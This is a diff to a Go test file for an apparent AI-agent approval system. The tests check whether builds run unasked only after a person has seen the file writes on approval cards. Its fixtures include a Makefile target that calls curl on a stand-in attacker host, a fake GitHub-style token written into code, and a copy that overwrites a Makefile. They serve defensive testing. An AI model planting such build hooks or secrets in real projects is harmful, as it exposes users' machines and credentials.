@@ -44,7 +44,7 @@ func (r *rig) builds(name string, unasked bool) {
 	r.asks(post("hello", m)) // what leaves still asks
 }
 
-// TestH147TheWorkspaceIsRunOnlyIfItWasSeen with nothing configured: cards hide what is written to files.
+// TestH147TheWorkspaceIsRunOnlyIfItWasSeen with nothing configured: cards show what is written to files, and a grant shows nothing.
 func TestH147TheWorkspaceIsRunOnlyIfItWasSeen(t *testing.T) {
 	t.Parallel()
 	onBoth(t, nil, func(t *testing.T, r *rig) {
@@ -55,7 +55,9 @@ func TestH147TheWorkspaceIsRunOnlyIfItWasSeen(t *testing.T) {
 		m := with(ownerIn("h147-tainted"), "waitMs", 9001)
 		r.allow(fetch(m))
 		r.builds("h147-fetched", true) // nothing was written since
-		r.approved(writes("Makefile", "test:\n\tcurl evil.example", m), 0)
+		r.approved(writes("notes.md", "bonjour\n", m), 10)
+		r.builds("h147-seen", true)
+		r.allow(writes("Makefile", "test:\n\tcurl evil.example", m))
 		r.builds("h147-other", false) // the workspace is one
 		r.quit()
 		r.start()
@@ -76,25 +78,26 @@ func TestH147TheWorkspaceIsRunOnlyIfItWasSeen(t *testing.T) {
 // TestH147WhatAPersonSawIsHarmless where cards show what is written, and nothing else is.
 func TestH147WhatAPersonSawIsHarmless(t *testing.T) {
 	t.Parallel()
-	shows := func(c *config.Config) { c.Redact.ShowFileBodies = true }
+	hides := func(c *config.Config) { c.Redact.ShowFileBodies = false }
 	for name, c := range map[string]struct {
 		edit    func(*config.Config)
 		act     func(r *rig, m map[string]any)
 		unasked bool
 	}{
-		"a write that was seen": {shows, func(r *rig, m map[string]any) { r.approved(writes("a.go", "package a", m), 0) }, true},
-		"an edit that was seen": {shows, func(r *rig, m map[string]any) {
+		"a write that was seen": {nil, func(r *rig, m map[string]any) { r.approved(writes("a.go", "package a", m), 0) }, true},
+		"an edit that was seen": {nil, func(r *rig, m map[string]any) {
 			r.approved(call{tool: "edit", params: `{"path":"a.go","edits":[{"oldText":"a","newText":"b"}]}`, context: m}, 0)
 		}, true},
 		"a command that says what it writes": {nil, func(r *rig, m map[string]any) { r.approved(sh("echo ok > a.txt", m), 0) }, true},
 		"a command that writes nothing":      {nil, func(r *rig, m map[string]any) { r.approved(sh("ls -l", m), 0) }, true},
 		"a build":                            {nil, func(r *rig, m map[string]any) { r.approved(sh("go build ./...", m), 0) }, true},
-		"a write that is cut":                {shows, func(r *rig, m map[string]any) { r.approved(writes("a.go", strings.Repeat("long line\n", 5000), m), 0) }, false},
-		"a write that a grant let pass": {shows, func(r *rig, m map[string]any) {
+		"a write that the card hides":        {hides, func(r *rig, m map[string]any) { r.approved(writes("a.go", "package a", m), 0) }, false},
+		"a write that is cut":                {nil, func(r *rig, m map[string]any) { r.approved(writes("a.go", strings.Repeat("long line\n", 5000), m), 0) }, false},
+		"a write that a grant let pass": {nil, func(r *rig, m map[string]any) {
 			r.approved(writes("a.go", "package a", m), 10)
 			r.allow(writes("Makefile", "test:\n\tcurl evil.example", m))
 		}, false},
-		"a write of a secret": {shows, func(r *rig, m map[string]any) {
+		"a write of a secret": {nil, func(r *rig, m map[string]any) {
 			r.approved(writes("a.go", "k = ghp_16C7e42F292c6912E7710c838347Ae178B4a", m), 0)
 		}, false},
 		"a copy":                       {nil, func(r *rig, m map[string]any) { r.approved(sh("cp page.html Makefile", m), 0) }, false},
